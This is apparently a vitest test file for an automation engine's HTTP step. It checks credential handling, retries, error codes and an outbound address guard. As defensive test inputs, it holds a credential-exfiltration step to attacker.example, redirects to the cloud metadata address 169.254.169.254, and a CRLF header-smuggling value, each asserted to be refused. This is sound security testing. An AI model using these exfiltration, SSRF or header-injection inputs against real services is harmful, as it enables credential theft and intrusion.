import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { eq } from 'drizzle-orm';
import { buildWorld, connect, data, text, type Session, type World } from './helpers/world.js';
import { Worker } from '../src/engine/worker.js';
import { executions } from '../src/db/schema/index.js';
import { addressRefusal, parseAllow } from '../src/engine/outbound.js';

/**
 * http steps against real HTTP servers on 127.0.0.1 standing in for third-party apps: credentials
 * injected from a connection and sent only to the app's address, the idempotency key repeated on
 * retries, retries and Retry-After, error codes, the size cap, the address guard on every
 * redirect, and rate limits that reschedule without using up retries.
 */

interface Seen {
  method: string;
  url: string;
  headers: IncomingMessage['headers'];
  body: string;
}
let w: World;
let boring: Session;
let worker: Worker;
let app: Server;
let other: Server;
let base: string;
let otherBase: string;
const seen: Seen[] = [];
const TOKEN = 'tok_http_step_0123456789abcdef';
const counts = new Map<string, number>();

function listen(server: Server): Promise<string> {
  return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve(`http://127.0.0.1:${(server.address() as AddressInfo).port}`)));
}

beforeAll(async () => {
  app = createServer((req, res) => {
    let body = '';
    req.on('data', (c) => (body += c));
    req.on('end', () => {
      const url = new URL(req.url!, 'http://x');
      seen.push({ method: req.method!, url: req.url!, headers: req.headers, body });
      const key = `${url.pathname}|${req.headers['idempotency-key']}`;
      const n = (counts.get(key) ?? 0) + 1;
      counts.set(key, n);
      const json = (status: number, value: unknown, headers: Record<string, string> = {}) => {
        res.writeHead(status, { 'content-type': 'application/json', ...headers });
        res.end(JSON.stringify(value));
      };
      switch (url.pathname) {
        case '/echo':
          return json(200, { method: req.method, query: Object.fromEntries(url.searchParams), body: body ? JSON.parse(body) : null });
        case '/flaky':
          return n <= 2 ? json(503, { error: 'try later' }) : json(200, { ok: true, tries: n });
        case '/throttled':
          return n === 1 ? json(429, { error: 'slow down' }, { 'retry-after': '1' }) : json(200, { ok: true });
        case '/unauthorized':
          return json(401, { error: 'invalid api key' });
        case '/invalid':
          return json(422, { error: 'email is required' });
        case '/big':
          res.writeHead(200, { 'content-type': 'text/plain' });
          return res.end('x'.repeat(2 * 1024 * 1024));
        case '/slow':
          return setTimeout(() => json(200, { late: true }), 1500);
        case '/nul':
          res.writeHead(500, { 'content-type': 'text/plain' });
          return res.end('a\0b');
        case '/pdf':
          res.writeHead(200, { 'content-type': 'application/pdf' });
          return res.end(Buffer.from([0x25, 0x50, 0x44, 0x46, 0x00, 0xff, 0x00]));
        case '/to-metadata':
          res.writeHead(302, { location: 'http://169.254.169.254/latest/meta-data/' });
          return res.end();
        case '/to-other':
          res.writeHead(307, { location: `${otherBase}/echo-headers` });
          return res.end();
        default:
          return json(404, { error: 'no such path' });
      }
    });
  });
  other = createServer((req, res) => {
    seen.push({ method: req.method!, url: `other:${req.url}`, headers: req.headers, body: '' });
    res.writeHead(200, { 'content-type': 'application/json' });
    res.end(JSON.stringify({ authorization: req.headers.authorization ?? null }));
  });
  [base, otherBase] = await Promise.all([listen(app), listen(other)]);
  w = await buildWorld();
  w.core.outbound = { allow: ['127.0.0.1'] };
  boring = await connect(w.core, w.tokens.boringAdmin);
  data(await boring.call('add_connection', { app: 'http', credentials: { auth_kind: 'bearer', base_url: base, token: TOKEN } }));
  worker = new Worker(w.core, { concurrency: 4, leaseMs: 5_000, pollMs: 50, retryBaseMs: 20, listen: (c, fn) => w.database.listen(c, fn) });
  await worker.start();
});
afterAll(async () => {
  await worker.stop();
  await boring.close();
  await w.close();
  await Promise.all([new Promise((r) => app.close(r)), new Promise((r) => other.close(r))]);
});

interface Run {
  execution: { id: string; status: string; failed_step: string | null; error: { code: string; message: string } | null };
  steps: { id: string; attempt: number; status: string; input: { headers: Record<string, string>; url: string } | null; output: unknown; error: { code: string; message: string } | null }[];
}

async function runOnce(name: string, step: Record<string, unknown>, body: unknown = {}, retries = 3): Promise<Run> {
  data(await boring.call('create_automation', { name, retries, steps: [{ id: 'call', kind: 'http', connection: 'http', ...step }] }));
  return data<Run>(await boring.call('run_automation', { automation: name, input: { body }, wait_seconds: 20 }));
}

describe('http step', () => {
  it('sends the rendered request with the connection credentials and an idempotency key, and never records the credentials', async () => {
    const r = await runOnce('Echo', { method: 'POST', url: `${base}/echo`, query: { customer: '{{ trigger.body.customer }}' }, body: { amount: '{{ trigger.body.amount }}', note: 'n-{{ trigger.body.customer }}' } }, { customer: 'c-7', amount: 42 });
    expect(r.execution.status).toBe('succeeded');
    const req = seen.find((s) => s.url.startsWith('/echo'))!;
    expect(req.headers.authorization).toBe(`Bearer ${TOKEN}`);
    expect(req.headers['idempotency-key']).toBe(`${r.execution.id}:call`);
    expect(req.headers['content-type']).toBe('application/json');
    expect(JSON.parse(req.body)).toEqual({ amount: 42, note: 'n-c-7' });
    expect(r.steps[0]!.input!.headers.authorization).toBe('[credentials of http/Default]');
    expect(r.steps[0]!.output).toMatchObject({ status: 200, body: expect.stringContaining('"customer":"c-7"') });
    const got = await boring.call('get_execution', { execution: r.execution.id });
    expect(JSON.stringify(got)).not.toContain(TOKEN);
    const [row] = await w.core.db.select().from(executions).where(eq(executions.id, r.execution.id));
    expect(JSON.stringify(row)).not.toContain(TOKEN);
    // later steps read the parsed answer
    data(
      await boring.call('create_automation', {
        name: 'Echo then use',
        steps: [
          { id: 'call', kind: 'http', method: 'GET', url: `${base}/echo`, query: { q: 'x' }, connection: 'http' },
          { id: 'use', kind: 'transform', value: '{{ steps.call.output.body.query.q & "!" }}' },
        ],
      }),
    );
    const used = data<Run>(await boring.call('run_automation', { automation: 'Echo then use' }));
    expect(used.steps.map((s) => s.output)).toEqual([expect.objectContaining({ status: 200 }), 'x!']);
  });

  it('retries 5xx with backoff, sending the same idempotency key every time', async () => {
    const r = await runOnce('Flaky', { method: 'POST', url: `${base}/flaky`, body: { n: 1 } });
    expect(r.execution.status).toBe('succeeded');
    expect(r.steps.map((s) => [s.attempt, s.status, s.error?.code ?? null])).toEqual([[1, 'retrying', 'http_5xx'], [2, 'retrying', 'http_5xx'], [3, 'succeeded', null]]);
    const keys = seen.filter((s) => s.url === '/flaky').map((s) => s.headers['idempotency-key']);
    expect(keys).toEqual([`${r.execution.id}:call`, `${r.execution.id}:call`, `${r.execution.id}:call`]);
    // the record keeps the upstream answer of a failed attempt
    expect(r.steps[0]!.output).toMatchObject({ status: 503, body: '{"error":"try later"}' });
  });

  it("honours Retry-After on 429, and gives up after the automation's retries", async () => {
    const started = Date.now();
    const r = await runOnce('Throttled', { method: 'GET', url: `${base}/throttled` });
    expect(r.execution.status).toBe('succeeded');
    expect(Date.now() - started).toBeGreaterThanOrEqual(900);
    expect(r.steps.map((s) => s.error?.code ?? s.status)).toEqual(['http_429', 'succeeded']);
    const none = await runOnce('Flaky no retries', { method: 'POST', url: `${base}/flaky`, body: {} }, {}, 0);
    expect(none.execution).toMatchObject({ status: 'failed', failed_step: 'call', error: { code: 'http_5xx' } });
  });

  it('fails at once on 401, 404 and other 4xx, keeping the answer', async () => {
    const u = await runOnce('Unauthorized', { method: 'GET', url: `${base}/unauthorized` });
    expect(u.execution.error!.code).toBe('http_401');
    expect(u.execution.error!.message).toMatch(/the credentials of http\/Default were refused \(1 in a row/);
    expect(u.steps).toHaveLength(1);
    expect(u.steps[0]!.output).toMatchObject({ status: 401, body: '{"error":"invalid api key"}' });
    expect((await runOnce('Missing', { method: 'GET', url: `${base}/nowhere` })).execution.error!.code).toBe('http_404');
    const invalid = await runOnce('Invalid', { method: 'POST', url: `${base}/invalid`, body: {} });
    expect(invalid.execution.error!.code).toBe('http_4xx');
    expect(invalid.steps[0]!.output).toMatchObject({ status: 422, body: expect.stringContaining('email is required') });
  });

  it('times out, and refuses answers over the size cap', async () => {
    const slow = await runOnce('Slow', { method: 'GET', url: `${base}/slow`, timeout_ms: 200 }, {}, 0);
    expect(slow.execution.error).toMatchObject({ code: 'timeout' });
    const big = await runOnce('Big', { method: 'GET', url: `${base}/big` }, {}, 0);
    expect(big.execution.error).toMatchObject({ code: 'response_too_large' });
  });

  it('refuses private and metadata addresses, directly and after a redirect', async () => {
    data(await boring.call('create_automation', { name: 'Metadata', retries: 0, steps: [{ id: 'call', kind: 'http', method: 'GET', url: 'http://169.254.169.254/latest/meta-data/' }] }));
    const direct = data<Run>(await boring.call('run_automation', { automation: 'Metadata' }));
    expect(direct.execution.error!.code).toBe('blocked_address');
    const redirected = await runOnce('Redirected', { method: 'GET', url: `${base}/to-metadata` }, {}, 0);
    expect(redirected.execution.error).toMatchObject({ code: 'blocked_address' });
    expect(redirected.execution.error!.message).toMatch(/169\.254\.169\.254/);
    // the guard's table
    const policy = { allow: [] };
    for (const a of ['127.0.0.1', '10.1.2.3', '172.16.0.1', '192.168.1.1', '169.254.169.254', '::1', 'fe80::1', 'fd00::1', '::ffff:127.0.0.1', '100.64.0.1', '0.0.0.0']) {
      expect(addressRefusal(a, policy), a).not.toBeNull();
    }
    for (const a of ['93.184.216.34', '2606:2800:220:1:248:1893:25c8:1946']) expect(addressRefusal(a, policy), a).toBeNull();
    expect(addressRefusal('10.1.2.3', { allow: ['10.0.0.0/8'] })).toBeNull();
    expect(() => parseAllow('127.0.0.1, nonsense')).toThrow(/'nonsense' is not an IP address/);
  });

  it('sends credentials only to the connection\'s address: at save, at run, and across a redirect', async () => {
    const saved = await boring.call('create_automation', { name: 'Exfiltrate', steps: [{ id: 'call', kind: 'http', method: 'POST', url: 'https://attacker.example/collect', connection: 'http' }] });
    expect(text(saved)).toMatch(/the credentials of http\/Default are sent only to http:\/\/127\.0\.0\.1:\d+, not https:\/\/attacker\.example/);
    // a computed URL is checked when it runs
    const computed = await runOnce('Exfiltrate later', { method: 'POST', url: '{{ trigger.body.target }}', body: {} }, { target: `${otherBase}/collect` });
    expect(computed.execution.error!.code).toBe('blocked_address');
    expect(seen.some((s) => s.url === 'other:/collect')).toBe(false);
    // a redirect to another origin goes without the credentials
    const hop = await runOnce('Hop', { method: 'GET', url: `${base}/to-other` });
    expect(hop.execution.status).toBe('succeeded');
    expect((hop.steps[0]!.output as { body: string }).body).toBe('{"authorization":null}');
    expect(seen.find((s) => s.url === 'other:/echo-headers')!.headers.authorization).toBeUndefined();
  });

  it('records answers with NUL bytes and binary bodies, and ends such runs instead of repeating them', async () => {
    const nul = await runOnce('Nul', { method: 'POST', url: `${base}/nul`, body: {} }, {}, 0);
    expect(nul.execution).toMatchObject({ status: 'failed', error: { code: 'http_5xx' } });
    expect(nul.steps[0]!.output).toMatchObject({ status: 500, body: '[binary body: 3 bytes, text/plain]' });
    expect(seen.filter((x) => x.url === '/nul')).toHaveLength(1);
    const pdf = await runOnce('Pdf', { method: 'GET', url: `${base}/pdf` });
    expect(pdf.execution.status).toBe('succeeded');
    expect(pdf.steps[0]!.output).toMatchObject({ status: 200, body: '[binary body: 7 bytes, application/pdf]' });
    data(await boring.call('create_automation', { name: 'Nul error', retries: 0, steps: [{ id: 'x', kind: 'transform', value: '{{ $error("bad" & $fromMillis(0) & "\\u0000x") }}' }] }));
    const err = data<Run>(await boring.call('run_automation', { automation: 'Nul error' }));
    expect(err.execution).toMatchObject({ status: 'failed', error: { code: 'expression_error' } });
  });

  it('refuses headers that would change where or how a request goes', async () => {
    for (const name of ['Host', 'Content-Length', 'Transfer-Encoding', 'Proxy-Authorization', 'Idempotency-Key']) {
      const r = await boring.call('create_automation', { name: `Header ${name}`, steps: [{ id: 'x', kind: 'http', method: 'GET', url: `${base}/echo`, connection: 'http', headers: { [name]: 'attacker.example' } }] });
      expect(text(r), name).toMatch(/the engine sets/);
    }
    // a value computed into a line break is refused when it runs, not sent
    const split = await runOnce('Split header', { method: 'GET', url: `${base}/echo`, headers: { 'X-Note': '{{ trigger.body.note }}' } }, { note: 'a\r\nHost: attacker.example' }, 3);
    expect(split.execution).toMatchObject({ status: 'failed', error: { code: 'expression_error' } });
    expect(split.steps).toHaveLength(1);
  });

  it('reschedules a step whose connection has no budget left without using up a retry', async () => {
    data(await boring.call('set_connection_rate_limit', { connection: 'http', per_minute: 1 }));
    // running steps see a connection change within a second (the worker caches connections that long)
    await new Promise((r) => setTimeout(r, 1100));
    try {
      data(await boring.call('create_automation', { name: 'Budget', retries: 0, steps: [{ id: 'call', kind: 'http', method: 'GET', url: `${base}/echo`, connection: 'http' }] }));
      const first = data<Run>(await boring.call('run_automation', { automation: 'Budget' }));
      expect(first.execution.status).toBe('succeeded');
      const second = data<Run>(await boring.call('run_automation', { automation: 'Budget', wait_seconds: 1 }));
      // no retries allowed, yet it is not failed: it waits for its budget
      expect(second.execution.status).toBe('queued');
      expect(second.steps.map((s) => [s.status, s.error?.code])).toEqual([['retrying', 'rate_limited']]);
      const [row] = await w.core.db.select().from(executions).where(eq(executions.id, second.execution.id));
      expect(row).toMatchObject({ attempt: 1, waits: 1 });
      expect(row!.runAt.getTime()).toBeGreaterThan(Date.now() + 30_000);
    } finally {
      data(await boring.call('set_connection_rate_limit', { connection: 'http', per_minute: null }));
    }
  });

  it('fails with connection_missing or connection_expired when the connection cannot be used', async () => {
    data(await boring.call('add_connection', { app: 'http', name: 'Spare', credentials: { auth_kind: 'bearer', base_url: base, token: TOKEN } }));
    data(await boring.call('create_automation', { name: 'Spare user', retries: 0, steps: [{ id: 'call', kind: 'http', method: 'GET', url: `${base}/echo`, connection: 'http/Spare' }] }));
    const { expireConnection } = await import('../src/core/connection-lifecycle.js');
    const { resolveConnection } = await import('../src/core/connections.js');
    await expireConnection(w.core, (await resolveConnection(w.core, w.accounts.boring, 'http/Spare')).row);
    const expired = data<Run>(await boring.call('run_automation', { automation: 'Spare user' }));
    expect(expired.execution.error).toMatchObject({ code: 'connection_expired', message: expect.stringMatching(/reconnect it \(reconnect_connection\)/) });
  });
});
